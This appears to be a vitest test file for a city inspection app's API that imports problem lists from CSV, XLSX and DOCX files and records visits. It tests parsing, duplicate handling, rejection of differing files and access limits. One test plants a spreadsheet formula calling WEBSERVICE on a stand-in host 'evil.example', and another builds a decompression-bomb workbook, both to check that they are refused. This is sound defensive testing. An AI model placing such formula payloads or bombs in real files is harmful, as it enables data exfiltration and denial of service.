import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { as } from '../../../test/as';
import { type Cast, cast } from '../../../test/mainJob';
import { aJpeg } from '../../../test/photoFiles';
import { useHouse } from '../../../test/testHouse';
import { aDocument, aWorkbook, headRow, textCell } from '../../../test/workbooks';
import { newId } from '../../platform/ids';

const test = useHouse();
let people: Cast;
beforeAll(async () => {
  people = await cast(test.app, test.here);
});

const bytesType = 'application/octet-stream';
const read = (bytes: Buffer) => people.acceptor.put('/api/problem-lists/reading', bytes, bytesType);
const list = Buffer.from('序号,点位,存在问题\n1,育新农贸市场,门口积水\n2,,井盖缺失\n');
const hashOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

const aVisit = (bytes: Buffer, over: object = {}) => ({
  id: newId(),
  name: '站点问题清单',
  day: '2026-11-17',
  source: 'leader',
  document: { fileName: '站点问题清单.csv', sha256: hashOf(bytes) },
  rows: [
    { id: newId(), position: test.here.spot, words: '门口积水', photos: [], sourceRow: 2 },
    { id: newId(), position: test.here.spot, words: '井盖缺失', photos: [], sourceRow: 3 },
  ],
  ...over,
});
const record = (visit: object) => people.acceptor.post('/api/visits', visit);
const deliver = (id: string, bytes: Buffer) => people.acceptor.put(`/api/visits/${id}/document`, bytes, bytesType);

describe('a list of problems', () => {
  it('is read as XLSX, CSV or a table of a text document, by row and column; nothing is stored', async () => {
    const rows = [
      { row: 2, cells: ['1', '育新农贸市场', '门口积水'] },
      { row: 3, cells: ['2', null, '井盖缺失'] },
    ];
    const headers = ['序号', '点位', '存在问题'];
    expect(await read(list)).toMatchObject({ status: 200, body: { kind: 'csv', headers, headerRow: 1, rows } });
    const xlsx = aWorkbook({
      rows: `${headRow(...headers)}<row r="2">${['1', '育新农贸市场', '门口积水'].map(textCell).join('')}</row>`,
    });
    expect((await read(xlsx)).body).toMatchObject({ kind: 'xlsx', headers, rows: rows.slice(0, 1) });
    const cell = (text: string) => `<w:tc><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:tc>`;
    const row = (...cells: string[]) => `<w:tr>${cells.map(cell).join('')}</w:tr>`;
    const docx = aDocument(`<w:tbl>${row(...headers)}${row('1', '育新农贸市场', '门口积水')}</w:tbl>`);
    expect((await read(docx)).body).toMatchObject({ kind: 'docx', headers, rows: rows.slice(0, 1) });
    expect((await people.acceptor.get('/api/visits')).body.visits).toEqual([]);
  });
  it('names the cells it cannot take, and takes no formula for its words', async () => {
    const formula = '<c r="C2"><f>WEBSERVICE("http://evil.example")</f></c>';
    const xlsx = aWorkbook({
      rows: `${headRow('序号', '点位', '存在问题')}<row r="2">${textCell('1')}${textCell('市场')}${formula}</row>`,
    });
    expect((await read(xlsx)).body).toMatchObject({
      rows: [{ row: 2, cells: ['1', '市场', null] }],
      faults: [{ row: 2, column: '存在问题', reason: 'cell.no-value' }],
    });
  });
  it('is refused where it is none, too long or a bomb', async () => {
    const long = Buffer.from(`点位,问题\n${'市场,积水\n'.repeat(301)}`);
    expect((await read(long)).body).toMatchObject({ type: '/problems/problem-list.too-long', most: 300 });
    expect((await read(Buffer.from(`点位,问题\n${'市场,积水\n'.repeat(300)}`))).body.rows).toHaveLength(300);
    const bomb = aWorkbook({ rows: `${headRow('点位', '问题')}${'<row><c/></row>'.repeat(12_000_000)}` });
    for (const bytes of [bomb, Buffer.alloc(0), list.subarray(0, 0), aDocument('<w:p/>')])
      expect([413, 422]).toContain((await read(bytes)).status);
    expect((await read(await aJpeg())).status).toBe(422);
  });
  it('is for the city’s desk', async () => {
    const put = (who: keyof Cast) => people[who].put('/api/problem-lists/reading', list, bytesType);
    expect((await put('clerk')).status).toBe(403);
    expect((await put('inspector')).status).toBe(403);
  });
});

describe('a visit that was brought in from a list', () => {
  it('keeps the list as it came, and each case says which of its rows it was', async () => {
    const visit = aVisit(list);
    const name = visit.document.fileName;
    expect(await record(visit)).toMatchObject({
      status: 201,
      body: { cases: 2, document: { fileName: name, isThere: false } },
    });
    expect((await people.acceptor.get(`/api/visits/${visit.id}/document`)).status, 'not there yet').toBe(404);
    expect(await deliver(visit.id, list)).toMatchObject({ status: 200, body: { document: { isThere: true } } });
    const kept = await people.acceptor.get(`/api/visits/${visit.id}/document`);
    expect(kept.body).toEqual(list);
    expect(kept.headers['content-disposition']).toContain(encodeURIComponent(name));
    const view = await people.acceptor.get(`/api/cases/${visit.rows[1]!.id}`);
    expect(view.body.origin.document).toEqual({ id: visit.id, name: visit.name, day: visit.day, row: 3 });
  });
  it('sent again, whole or half, is the same visit and the same document', async () => {
    const visit = aVisit(list);
    const both = await Promise.all([record(visit), record(visit)]);
    expect(both.map(({ status }) => status).sort()).toEqual([200, 201]);
    await Promise.all([deliver(visit.id, list), deliver(visit.id, list)]);
    expect((await record(visit)).body).toMatchObject({ cases: 2, document: { isThere: true } });
    const other = { ...visit, document: { ...visit.document, fileName: '别的.csv' } };
    expect((await record(other)).status).toBe(409);
    const moved = { ...visit, rows: visit.rows.map((row) => ({ ...row, sourceRow: 9 })) };
    expect((await record(moved)).status).toBe(409);
  });
  it('takes no other file for its document, and none for a visit that named none', async () => {
    const visit = aVisit(list);
    await record(visit);
    expect(await deliver(visit.id, Buffer.from('点位\n'))).toMatchObject({
      status: 422,
      body: { type: '/problems/visit.file-differs' },
    });
    const bare = aVisit(list, { document: undefined });
    expect((await record({ ...bare, rows: bare.rows.map(({ sourceRow: _, ...row }) => row) })).status).toBe(201);
    expect((await deliver(bare.id, list)).status).toBe(404);
  });
  it('with one row that cannot be taken is not there at all', async () => {
    const visit = aVisit(list);
    const broken = {
      ...visit,
      rows: [...visit.rows, { id: visit.rows[0]!.id, words: '同号', photos: [], position: test.here.spot }],
    };
    expect((await record(broken)).status).toBeGreaterThanOrEqual(400);
    expect((await people.acceptor.get(`/api/cases/${visit.rows[0]!.id}`)).status).toBe(404);
    expect((await deliver(visit.id, list)).status).toBe(404);
    expect((await record(visit)).status).toBe(201);
  });
  it('belongs to its city and to the city’s desk', async () => {
    const visit = aVisit(list);
    await record(visit);
    await deliver(visit.id, list);
    const elsewhere = await as(test.app, test.there, 'acceptor');
    expect((await elsewhere.get(`/api/visits/${visit.id}/document`)).status).toBe(404);
    expect((await people.clerk.get(`/api/visits/${visit.id}/document`)).status).toBe(403);
  });
});
